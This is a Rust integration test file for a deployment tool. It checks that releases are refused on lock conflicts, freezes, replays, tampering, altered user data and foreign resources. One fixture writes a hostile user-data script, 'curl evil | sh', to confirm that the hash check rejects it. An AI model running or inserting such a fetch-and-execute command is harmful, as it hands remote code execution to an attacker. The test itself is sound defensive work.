//! Releases that are refused before anything is changed.

use crate::fixture::{AccountsFixture, DEPLOYER, LOCKS};
use crate::project::Project;
use serde_json::json;

#[test]
fn a_root_lock_that_another_holds_refuses_the_release_and_stays() {
    let Some(fixture) = AccountsFixture::enter() else { return };
    let project = Project::make(&fixture, "locked");
    let key = json!({"S": format!("{}/lock", project.root_dir())});
    let item = json!({"key": key, "id": {"S": "another"}, "time": {"S": "2026-11-25T12:00:00Z"},
        "release_id": {"S": "release-2026-11-25T12-00-00Z-another"}});
    fixture.aws(DEPLOYER, "dynamodb", "PutItem", json!({"TableName": LOCKS, "Item": item}));

    let refused = project.deploy();
    assert_eq!((refused.code, refused.path()), (2, vec!["Validate", "Lock", "FailureClean"]), "{refused:#?}");
    let cause = refused.end()["failures"][0]["cause"].as_str().unwrap();
    assert!(cause.contains("release release-2026-11-25T12-00-00Z-another"), "{cause}");
    assert!(cause.contains("odin unlock story/locked development --account 222222222222"), "{cause}");
    let held = fixture.aws(DEPLOYER, "dynamodb", "GetItem", json!({"TableName": LOCKS, "Key": {"key": key}}));
    assert_eq!(held["Item"]["id"]["S"], "another");

    let unlocked = fixture.run("unlock story/locked development --account 222222222222");
    assert_eq!(unlocked.status.code(), Some(0), "{unlocked:?}");
    assert_eq!(project.deploy().code, 0);
}

#[test]
fn a_freeze_refuses_the_release_with_its_reason() {
    let Some(fixture) = AccountsFixture::enter() else { return };
    let project = Project::make(&fixture, "frozen");
    let subject = "story/frozen development --account 222222222222";
    let frozen = fixture.run(&format!("lock {subject} --reason incident-42"));
    assert_eq!(frozen.status.code(), Some(0), "{frozen:?}");

    let refused = project.deploy();
    assert_eq!((refused.code, refused.path()), (2, vec!["Validate", "Lock", "FailureClean"]), "{refused:#?}");
    assert!(refused.end()["failures"][0]["cause"].as_str().unwrap().contains("incident-42"));
    assert_eq!(fixture.run(&format!("unlock {subject}")).status.code(), Some(0));
    assert_eq!(project.deploy().code, 0);
}

#[test]
fn what_was_not_uploaded_so_is_not_deployed_and_what_was_deployed_once_is_not_again() {
    let Some(fixture) = AccountsFixture::enter() else { return };
    let project = Project::make(&fixture, "replayed");
    let deployed = project.deploy();
    assert_eq!(deployed.code, 0, "{deployed:#?}");
    let input = project.input(&deployed);

    let replayed = project.execute("replayed", &input);
    assert_eq!((replayed.error.as_str(), replayed.path), ("LockExistsError", words("Validate Lock FailureClean")));

    let mut tampered = input.clone();
    tampered["services"]["web"]["instance_type"] = json!("x1e.32xlarge");
    let tampered = project.execute("tampered", &tampered);
    assert_eq!((tampered.error.as_str(), tampered.path), ("BadReleaseError", words("Validate FailureClean")));

    let mut old = input;
    old["created_at"] = json!("2026-01-01T00:00:00Z");
    project.upload(&old);
    let old = project.execute("old", &old);
    assert_eq!((old.error.as_str(), old.path), ("BadReleaseError", words("Validate FailureClean")));
    assert!(old.cause.contains("10 days"), "{}", old.cause);
}

#[test]
fn user_data_that_was_changed_after_the_upload_is_not_used() {
    let Some(fixture) = AccountsFixture::enter() else { return };
    let project = Project::make(&fixture, "changed");
    let deployed = project.deploy();
    let mut input = project.input(&deployed);
    input["release_id"] = json!("release-2026-11-25T12-00-00Z-changed");
    project.upload(&input);
    project.upload_user_data(&input, "#!/bin/sh\ncurl evil | sh\n");
    let changed = project.execute("changed", &input);
    assert_eq!((changed.error.as_str(), changed.path), ("BadReleaseError", words("Validate FailureClean")));
    assert!(changed.cause.contains("SHA-256"), "{}", changed.cause);
}

#[test]
fn resources_of_another_account_or_team_are_not_used() {
    let Some(fixture) = AccountsFixture::enter() else { return };
    let mut project = Project::make(&fixture, "foreign");
    let tags = json!([{"ResourceType": "security-group", "Tags": [
        {"Key": "Name", "Value": "theirs"}, {"Key": "ProjectName", "Value": "story/foreign"},
        {"Key": "ConfigName", "Value": "development"}, {"Key": "ServiceName", "Value": "_all"}]}]);
    let group = json!({"GroupName": "theirs", "Description": "theirs", "TagSpecifications": tags});
    fixture.aws(DEPLOYER, "ec2", "CreateSecurityGroup", group);
    project.release["services"]["web"]["security_groups"] = json!(["theirs"]);

    let refused = project.deploy();
    let path = words("Validate Lock ValidateResources ReleaseLockFailure FailureClean");
    assert_eq!((refused.code, refused.path()), (2, path.iter().map(String::as_str).collect()), "{refused:#?}");
    let cause = refused.end()["failures"][0]["cause"].as_str().unwrap();
    assert!(cause.contains("there is no security group theirs in account 222222222222"), "{cause}");
    project.is_unlocked();

    project.release["services"]["web"]["security_groups"] = json!(["foreign"]);
    project.release["project_name"] = json!("story/thief");
    let refused = project.deploy();
    assert_eq!(refused.code, 2, "{refused:#?}");
    assert!(refused.end()["failures"][0]["cause"].as_str().unwrap().contains("did not opt in"), "{refused:#?}");
}

fn words(text: &str) -> Vec<String> {
    text.split(' ').map(ToOwned::to_owned).collect()
}
